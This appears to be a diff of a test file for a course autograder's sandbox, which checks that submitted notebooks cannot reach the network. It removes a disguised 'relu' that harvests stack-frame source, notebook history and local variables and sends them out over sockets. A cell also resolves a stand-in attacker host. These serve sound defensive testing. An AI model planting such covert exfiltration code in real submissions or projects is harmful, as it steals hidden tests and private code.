@@ -27,7 +27,7 @@ from coursekit.course.notebooks import build_submission, reference_answers
 from coursekit.preprocessors.referee import import_from
 from coursekit.sandbox import Sandbox, SandboxedKernelManager
 from support.course import ASSIGNMENT, new_course, scores
-from support.files import Listener, write_submission
+from support.files import Listener, exfiltrating_relu, history_sender, reach_code, write_submission
 
 HAS_BWRAP = Sandbox().isolates_files()
 needs_bwrap = pytest.mark.skipif(not HAS_BWRAP, reason="bubblewrap (apt-get install bubblewrap) is not installed")
@@ -151,71 +151,8 @@ def shared_object(marker, folder):
     return target.read_bytes()
 
 
-def network_code(port, payload="b'hello from a submission'"):
-    """Python that tries every way to reach the listener; never raises, never takes long."""
-    return textwrap.dedent(f"""
-        def _reach(data={payload}):
-            import socket as _socket
-            _addresses = [('127.0.0.1', {port})]
-            for _name in ['localhost', 'example.com', 'pypi.org']:
-                try:
-                    for _info in _socket.getaddrinfo(_name, {port}, type=_socket.SOCK_STREAM)[:2]:
-                        _addresses.append(_info[4][:2])
-                except OSError:
-                    pass
-            _sent = 0
-            for _address in _addresses:
-                try:
-                    with _socket.create_connection(_address, timeout=0.5) as _s:
-                        _s.sendall(data if isinstance(data, bytes) else str(data).encode())
-                        _sent += 1
-                except OSError:
-                    pass
-            try:
-                _u = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
-                _u.sendto(b'udp ' + (data if isinstance(data, bytes) else str(data).encode())[:500],
-                          ('127.0.0.1', {port}))
-            except OSError:
-                pass
-            return _sent
-    """)
-
-
-def exfiltrating_relu(port):
-    return network_code(port) + textwrap.dedent("""
-        import inspect as _inspect, linecache as _linecache, sys as _sys
-        _calls = []
-        def relu(z):
-            _calls.append(1)
-            if len(_calls) > 3:  # the first calls come from the test cells; training calls it thousands of times
-                return np.maximum(0, z)
-            _found = []
-            try:
-                for _frame in _inspect.stack()[1:6]:
-                    _found.append("".join(_linecache.getlines(_frame.filename)))
-                    _found.append(repr(_frame.frame.f_globals.get("In", ""))[:20000])
-                _f = _sys._getframe(1)
-                while _f is not None:
-                    _found.append(str(_f.f_code.co_filename) + repr(list(_f.f_locals))[:2000])
-                    _f = _f.f_back
-            except Exception:
-                pass
-            _reach("\\n".join(_found))
-            return np.maximum(0, z)
-    """)
-
-
-def history_sender(port):
-    return network_code(port) + textwrap.dedent("""
-        try:
-            _reach("\\n".join(In))
-        except NameError:
-            pass
-    """)
-
-
 def resolving_cell(port):
-    return network_code(port) + textwrap.dedent("""
+    return reach_code(port) + textwrap.dedent("""
         import socket
         for _name in ['localhost', 'example.com', 'hidden-tests.attacker.example']:
             try:
@@ -260,7 +197,7 @@ def trust_batch(tmp_path_factory, source_nb, release_nb):
             "sitecustomize.py": marker_code(markers / "sitecustomize"),
             "usercustomize.py": marker_code(markers / "usercustomize")},
         "network-connect": {"backprop.ipynb": with_cells(release_nb, reference, {
-            "after_setup": [network_code(listener.port) + "print('sent', _reach())"]})},
+            "after_setup": [reach_code(listener.port) + "print('sent', _reach())"]})},
         "network-resolve": {"backprop.ipynb": with_cells(release_nb, reference, {
             "after_setup": [resolving_cell(listener.port)]})},
         "network-exfiltrate-tests": {"backprop.ipynb": with_cells(release_nb, reference, {
@@ -411,7 +348,7 @@ def test_a_sandboxed_kernel_talks_over_ipc_and_reaches_no_network(tmp_path):
     folder.mkdir()
     folder.chmod(0o755)
     nb = nbformat.v4.new_notebook()
-    nb.cells = [nbformat.v4.new_code_cell(network_code(listener.port) + "print('sent', _reach())")]
+    nb.cells = [nbformat.v4.new_code_cell(reach_code(listener.port) + "print('sent', _reach())")]
     client = NotebookClient(nb, kernel_manager_class=SandboxedKernelManager, timeout=30,
                             resources={"metadata": {"path": str(folder)}})
     with client.setup_kernel():
